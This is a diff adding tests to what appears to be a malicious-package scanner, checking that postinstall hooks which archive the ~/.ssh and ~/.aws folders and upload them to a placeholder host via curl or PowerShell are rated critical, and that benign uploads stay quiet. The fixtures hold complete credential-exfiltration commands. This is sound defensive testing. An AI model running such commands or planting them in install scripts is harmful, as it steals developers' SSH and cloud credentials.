@@ -1081,3 +1081,36 @@ describe('agent files pointing at package scripts', () => {
     ).toEqual([]);
   });
 });
+
+describe('credential folders archived and uploaded', () => {
+  it('tar of ~/.ssh and ~/.aws piped into curl', () => {
+    expect(
+      risk({
+        'package.json': pkg({ scripts: { postinstall: 'sh i.sh' } }),
+        'i.sh':
+          'tar czf - ~/.ssh ~/.aws 2>/dev/null | curl -s -X POST --data-binary @- https://keys.backup.example/u',
+      }),
+    ).toBe('critical');
+  });
+  it('PowerShell Compress-Archive of the profile folders, then Invoke-RestMethod -InFile', () => {
+    expect(
+      risk({
+        'package.json': pkg({ scripts: { postinstall: 'powershell -File i.ps1' } }),
+        'i.ps1': `$zip = Join-Path $env:TEMP "k.zip"
+Compress-Archive -Path "$env:USERPROFILE\\.ssh", "$env:USERPROFILE\\.aws" -DestinationPath $zip -Force
+Invoke-RestMethod -Uri "https://keys.backup.example/u" -Method Post -InFile $zip`,
+      }),
+    ).toBe('critical');
+  });
+  it('creating ~/.ssh and uploading build output stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg({ scripts: { postinstall: 'sh s.sh' } }),
+          's.sh': `mkdir -p ~/.ssh && chmod 700 ~/.ssh
+tar czf dist.tgz dist && curl -s -T dist.tgz https://artifacts.example/upload`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
